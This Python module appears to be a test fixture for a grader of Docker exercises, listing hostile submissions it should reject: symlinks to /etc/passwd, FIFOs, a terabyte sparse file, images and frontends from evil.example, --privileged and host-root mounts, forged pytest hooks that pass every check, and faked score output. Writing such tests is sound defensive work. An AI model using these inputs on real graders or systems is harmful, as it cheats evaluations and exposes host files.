"""Exercises that harm or cheat, whatever the course: nothing of them is worth a point."""

from __future__ import annotations

import os
from collections.abc import Callable, Mapping
from pathlib import Path

__all__ = ["HARM"]

Harm = Callable[[Path, str], None]


def _text(**files: str) -> Harm:
    """Files; ``_`` stands for a point, and ``BASE`` for a base that the exercise may use."""

    def make(own: Path, base: str) -> None:
        for name, text in files.items():
            (own / name.replace("_", ".")).write_text(text.replace("BASE", base))

    return make


def _link_out(own: Path, base: str) -> None:
    (own / "Dockerfile").symlink_to("/etc/passwd")
    (own / "run.txt").symlink_to("/etc/passwd")


def _pipe(own: Path, base: str) -> None:
    for name in ("Dockerfile", "run.txt"):
        os.mkfifo(own / name)


def _huge(own: Path, base: str) -> None:
    _text(Dockerfile="FROM BASE\nCOPY huge /\n", run_txt="docker run x\n")(own, base)
    with (own / "huge").open("w") as file:
        file.truncate(2**40)


def _configuration(own: Path, base: str) -> None:
    """Files that pytest or Python would read, each of which would pass every check."""
    _text(Dockerfile="FROM BASE\nRUN false\n", run_txt="docker run --privileged x\n")(own, base)
    for name in ("conftest.py", "sitecustomize.py", "pytest.py", "test_forged.py"):
        (own / name).write_text("def pytest_pyfunc_call(pyfuncitem): return True\n")
    (own / "pytest.ini").write_text("[pytest]\naddopts = --co\n")


HARM: Mapping[str, Harm] = {
    "link-out": _link_out,
    "pipe": _pipe,
    "huge": _huge,
    "configuration": _configuration,
    "base": _text(Dockerfile="FROM evil.example/solved\n", run_txt="docker run evil.example/solved\n"),
    "frontend": _text(Dockerfile="# syntax=evil.example/solved\nFROM BASE\n", run_txt="docker run -v /:/host x\n"),
    "flood": _text(
        Dockerfile="FROM BASE\nRUN seq 100000; printf '\\033[2J\\n::notice::points 7/7\\n\\377\\n'; false\n",
        run_txt="docker run --network host x\n",
    ),
    "no-text": _text(Dockerfile="FROM BASE\0\n", run_txt="docker run\0\n"),
}
